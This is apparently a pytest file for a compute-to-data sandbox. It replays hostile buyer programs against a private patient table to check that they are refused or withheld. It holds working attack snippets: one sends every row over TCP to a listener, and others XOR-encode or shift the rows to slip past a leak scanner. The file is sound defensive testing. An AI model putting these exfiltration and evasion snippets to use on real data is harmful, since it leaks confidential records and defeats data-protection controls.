"""What a hostile compute-to-data buyer tried (issue 15), replayed against a real provider on a real chain.

The provider holds 200 private rows and approves algorithms by code hash. Each attack is a real program in the
real sandbox: an unapproved program, an approved one that dials a TCP listener this test runs, and programs
(approved by mistake) that write the rows XOR-ed or shifted by a constant. Plus the two ways a provider says
no: without namespaces it refuses compute-to-data, and without a network premium it refuses network jobs.
"""

from __future__ import annotations

import json
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest

from covey.compute.c2d import NotApproved, PrivateDataset, algorithm_digest, save_private_dataset, stats_job
from covey.compute.client import JobStatus, JobTerms, Resources
from covey.compute.jobs import CommandJob, fetch_result, parse_job, publish_job, run_unit
from covey.compute.provider import PricingRule, ProviderAgent
from covey.compute.sandbox import Sandbox, SandboxError, probe_namespaces
from covey.errors import ValidationError

COV = 10**18
USD = 10**6
MIN_STAKE = 100 * COV
XOR_KEY = 0x5A
SHIFT = 1000.0
NAMESPACES = probe_namespaces()
needs_namespaces = pytest.mark.skipif(not NAMESPACES.namespaces, reason=f"no namespaces here: {NAMESPACES.detail}")

# Each writes the whole table, encoded so that the plain leak scan would not recognise it, to `out.bin`.
XOR_ROWS = f"""import sys, numpy as np
x = np.load(sys.argv[1])["inputs"].astype(np.float32)
open("out.bin", "wb").write(bytes(b ^ {XOR_KEY} for b in x.tobytes()))
"""
SHIFTED_TEXT = f"""import sys, numpy as np
x = np.load(sys.argv[1])["inputs"].astype(np.float64)
open("out.bin", "w").write("\\n".join(",".join(str(float(v) + {SHIFT}) for v in row) for row in x))
"""
SHIFTED_FLOATS = f"""import sys, numpy as np
x = np.load(sys.argv[1])["inputs"].astype(np.float64)
open("out.bin", "wb").write((x + {SHIFT}).tobytes())
"""
# Sends every row to argv[2]:argv[3] over TCP, then writes what happened (no row in it) to `out.bin`.
DIAL_OUT = """import json, socket, sys, numpy as np
x = np.load(sys.argv[1])["inputs"]
try:
    with socket.create_connection((sys.argv[2], int(sys.argv[3])), timeout=3) as sock:
        sock.sendall(x.tobytes())
    outcome = "sent"
except OSError as exc:
    outcome = type(exc).__name__
json.dump({"outcome": outcome}, open("out.bin", "w"))
"""


@pytest.fixture
def hospital(tmp_path: Path) -> PrivateDataset:
    """The provider's private data: 200 patients x 6 measurements and a label, never uploaded anywhere."""
    rng = np.random.default_rng(7)
    inputs = rng.normal(50, 10, size=(200, 6)).astype(np.float32)
    folder = tmp_path / "owner"
    folder.mkdir()
    return save_private_dataset(folder / "patients.npz", inputs, (inputs[:, 0] > 50).astype(np.int64))


def program_job(store, dataset: PrivateDataset, program: str, *extra: str) -> CommandJob:
    ref = store.put(program.encode())
    return CommandJob(
        argv=["python", "program.py", "private.npz", *extra],
        inputs={"program.py": ref.digest},
        outputs=["out.bin"],
        private_data=dataset.digest,
    )


def owner_provider(bazaar, store, tmp_path: Path, dataset: PrivateDataset, logs: list[str], **sandbox) -> ProviderAgent:
    (owner,) = bazaar.people(1)
    bazaar.stake(owner, MIN_STAKE)
    provider = ProviderAgent(
        bazaar.client,
        owner,
        store,
        resources=Resources(2, 2048, 0),
        pricing=PricingRule(10),
        sandbox=Sandbox(store, root=tmp_path / "owner-sandbox", **sandbox),
        datasets=[dataset],
        log=logs.append,
    )
    provider.register()
    return provider


def post(bazaar, store, job: CommandJob, max_price: int = 20) -> int:
    buyer = bazaar.buyer(10 * USD)
    spec = publish_job(store, job)
    terms = JobTerms(spec.bytes32, job.units, max_price, 10, Resources(1, 512, 0), 30, 600)
    return bazaar.client.post_job(buyer, terms)


def run_to_verifying(bazaar, provider: ProviderAgent, job_id: int) -> dict:
    """Let the provider bid, win and run the job; return the unit's result manifest."""
    provider.step()
    bazaar.advance_past_bidding(job_id)
    provider.step()
    provider.step()
    assert bazaar.client.job(job_id).status == JobStatus.VERIFYING
    (unit,) = bazaar.client.unit_results(job_id)
    return fetch_result(provider.store, unit.result_hash)


def store_blobs(store) -> list[bytes]:
    return [path.read_bytes() for path in Path(store.root).rglob("*") if path.is_file()]


def holds_a_row(blob: bytes, dataset: PrivateDataset) -> bool:
    """Whether `blob`, decoded the ways the attacks encode, holds any row."""
    rows32 = dataset.inputs.astype(np.float32)
    unxored = bytes(b ^ XOR_KEY for b in blob)
    if any(row.tobytes() in unxored for row in rows32):
        return True
    usable = len(blob) // 8 * 8
    floats = np.frombuffer(blob[:usable], dtype=np.float64) - SHIFT
    if any(row.astype(np.float64).tobytes() in floats.tobytes() for row in rows32):
        return True
    try:
        numbers = np.array([float(v) - SHIFT for v in blob.decode().replace("\n", ",").split(",") if v])
    except (UnicodeDecodeError, ValueError):
        return False
    return any(np.allclose(numbers[i : i + 6], row, atol=1e-3) for row in rows32 for i in range(0, len(numbers) - 5))


# -- approval by code hash -------------------------------------------------------------------------------------


def test_a_job_whose_code_hash_the_owner_did_not_approve_is_refused(bazaar, store, tmp_path, hospital) -> None:
    offer = hospital.approve(stats_job(store, hospital.digest))
    attack = program_job(store, offer, XOR_ROWS)
    logs: list[str] = []
    provider = owner_provider(bazaar, store, tmp_path, offer, logs)
    job_id = post(bazaar, store, attack)

    provider.step()
    bazaar.advance_past_bidding(job_id)
    provider.step()

    assert bazaar.client.bids(job_id) == [] and bazaar.client.job(job_id).status == JobStatus.OPEN
    assert provider.stats.units_run == 0
    refusal = [line for line in logs if f"refusing compute-to-data job {job_id}" in line]
    assert refusal and f"algorithm {algorithm_digest(attack)[:12]}… is not approved" in refusal[0]
    with pytest.raises(NotApproved, match="is not approved by the owner"):
        offer.output_filter(attack)
    # Changing anything the owner reviewed (here the argv) is another algorithm: the approval does not carry.
    approved = stats_job(store, offer.digest)
    tweaked = approved.model_copy(update={"argv": [*approved.argv, "--verbose"]})
    with pytest.raises(NotApproved):
        offer.admit(tweaked)
    assert offer.admit(approved).max_output_bytes == offer.aggregate_cap_bytes()
    assert offer.describe()["approved"] == {algorithm_digest(approved): offer.aggregate_cap_bytes()}


# -- no network next to data -------------------------------------------------------------------------------------


class Listener:
    """A real TCP listener on 127.0.0.1 that records every connection it accepts."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self.server.accept()
            except TimeoutError:
                continue
            with connection:
                connection.settimeout(2)
                chunks = []
                while chunk := connection.recv(1 << 16):
                    chunks.append(chunk)
                self.received.append(b"".join(chunks))

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self.server.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


@needs_namespaces
def test_an_approved_job_cannot_send_the_rows_over_tcp(bazaar, store, tmp_path, hospital, listener) -> None:
    attack = program_job(store, hospital, DIAL_OUT, "127.0.0.1", str(listener.port))
    offer = hospital.approve(attack)  # the owner approved it without reading it
    provider = owner_provider(bazaar, store, tmp_path, offer, [])

    manifest = run_to_verifying(bazaar, provider, post(bazaar, store, attack))

    assert manifest["exit_code"] == 0
    report = json.loads(store.get(manifest["outputs"]["out.bin"]))
    assert report["outcome"] in ("ConnectionRefusedError", "OSError", "TimeoutError"), report
    assert listener.received == []


def test_a_compute_to_data_job_cannot_declare_network_access(store, hospital) -> None:
    job = program_job(store, hospital, DIAL_OUT)
    with pytest.raises(ValueError, match="never gets network access"):
        CommandJob(**{**job.model_dump(), "network": True})
    with pytest.raises(ValidationError, match="never gets network access"):
        parse_job(json.dumps({**job.model_dump(mode="json"), "network": True}).encode())


# -- encoded copies of the table ---------------------------------------------------------------------------------


@needs_namespaces
@pytest.mark.parametrize(
    "program", [XOR_ROWS, SHIFTED_TEXT, SHIFTED_FLOATS], ids=["xor", "shifted-text", "shifted-floats"]
)
def test_an_encoded_copy_of_the_table_never_leaves(bazaar, store, tmp_path, hospital, program: str) -> None:
    """Approved by mistake, the encoder still gets nothing out: the declared output's cap is sized for aggregates."""
    attack = program_job(store, hospital, program)
    offer = hospital.approve(attack)
    provider = owner_provider(bazaar, store, tmp_path, offer, [])

    manifest = run_to_verifying(bazaar, provider, post(bazaar, store, attack))

    assert manifest["outputs"] == {}
    assert manifest["withheld"] == {"out.bin": f"over the {offer.aggregate_cap_bytes()}-byte compute-to-data cap"}
    assert not any(holds_a_row(blob, hospital) for blob in store_blobs(store))
    # The control: run unsandboxed, the program's output does decode back to the rows (so the check above bites).
    folder = tmp_path / "control"
    folder.mkdir()
    subprocess.run([sys.executable, "-c", program, str(hospital.path)], cwd=folder, check=True, timeout=60)
    assert holds_a_row((folder / "out.bin").read_bytes(), hospital)


@pytest.mark.parametrize(
    ("encode", "reason"),
    [
        (lambda x: bytes(b ^ XOR_KEY for b in x.astype(np.float32).tobytes()), "XOR-ed with a repeating key"),
        (lambda x: bytes(b ^ k for b, k in zip(x.tobytes(), b"\x13\x37\xbe\xef" * 999, strict=False)), "XOR-ed"),
        (lambda x: (x.astype(np.float64) + SHIFT).tobytes(), "shifted by a constant (float64 bytes)"),
        (lambda x: (x + np.float32(7)).astype(np.float32).tobytes(), "shifted by a constant (float32 bytes)"),
        (lambda x: json.dumps((x.astype(np.float64) - 3.25).round(3).tolist()).encode(), "shifted by a constant"),
    ],
    ids=["xor-byte", "xor-word", "shift-float64", "shift-float32", "shift-text"],
)
def test_the_leak_scan_also_knows_xor_and_shifted_rows(hospital, encode, reason: str) -> None:
    """The second line: three encoded rows fit under the cap, and the scan still withholds them."""
    few = encode(hospital.inputs[40:43])
    assert len(few) < hospital.aggregate_cap_bytes()
    found = hospital.find_leak(b"prefix " + few)
    assert found is not None and reason in found


def test_the_leak_scan_lets_aggregates_and_weights_through(hospital) -> None:
    x = hospital.inputs.astype(np.float64)
    stats = {"mean": x.mean(axis=0).round(4).tolist(), "std": x.std(axis=0).round(4).tolist(), "rows": 200}
    assert hospital.find_leak(json.dumps(stats).encode()) is None
    weights = np.random.default_rng(3).normal(0, 0.3, size=4096).astype(np.float32).tobytes()
    assert hospital.find_leak(weights) is None


# -- a provider without namespaces ---------------------------------------------------------------------------------


def test_a_provider_without_namespaces_refuses_compute_to_data_and_says_why(bazaar, store, tmp_path, hospital) -> None:
    job = stats_job(store, hospital.digest)
    offer = hospital.approve(job)
    logs: list[str] = []
    provider = owner_provider(bazaar, store, tmp_path, offer, logs, isolation="process")

    assert any("units run with WEAK isolation" in line for line in logs)
    assert any("refusing compute-to-data: it needs namespace isolation" in line for line in logs)
    job_id = post(bazaar, store, job)
    provider.step()
    assert bazaar.client.bids(job_id) == []
    assert any(f"refusing compute-to-data job {job_id}: it must run in namespace isolation" in line for line in logs)
    # Below the agent, the unit runner refuses too: nothing is staged, the data never leaves its folder.
    with pytest.raises(SandboxError, match="must run isolated in namespaces"):
        run_unit(
            provider.sandbox,
            job,
            publish_job(store, job).digest,
            0,
            private_data={offer.digest: offer.path},
            output_filter=offer.output_filter(job),
        )
    assert not (tmp_path / "owner-sandbox").exists() or not any((tmp_path / "owner-sandbox").iterdir())


# -- network access is declared and paid for -----------------------------------------------------------------------


@needs_namespaces
def test_a_network_job_runs_only_where_the_buyer_pays_the_premium(bazaar, store, tmp_path, listener) -> None:
    program = store.put(
        b"import socket, sys\n"
        b"socket.create_connection(('127.0.0.1', int(sys.argv[1])), timeout=3).sendall(b'hello')\n"
        b"open('done.txt', 'w').write('ok')\n"
    )
    job = CommandJob(
        argv=["python", "program.py", str(listener.port)],
        inputs={"program.py": program.digest},
        outputs=["done.txt"],
        network=True,
    )
    offline, online = bazaar.people(2)
    agents = []
    for account, pricing in ((offline, PricingRule(10)), (online, PricingRule(10, network_premium=5))):
        bazaar.stake(account, MIN_STAKE)
        agent = ProviderAgent(
            bazaar.client,
            account,
            store,
            resources=Resources(2, 2048, 0),
            pricing=pricing,
            sandbox=Sandbox(store, root=tmp_path / account.address[:8]),
        )
        agent.register()
        agents.append(agent)
    cheap = post(bazaar, store, job, max_price=14)  # below floor + premium: nobody takes it
    paid = post(bazaar, store, job, max_price=20)

    for agent in agents:
        agent.step()

    assert bazaar.client.bids(cheap) == []
    (bid,) = bazaar.client.bids(paid)
    assert (bid.provider, bid.price_per_unit_second) == (online.address, 15)
    manifest = run_to_verifying(bazaar, agents[1], paid)
    assert manifest["exit_code"] == 0 and store.get(manifest["outputs"]["done.txt"]) == b"ok"
    assert listener.received == [b"hello"]
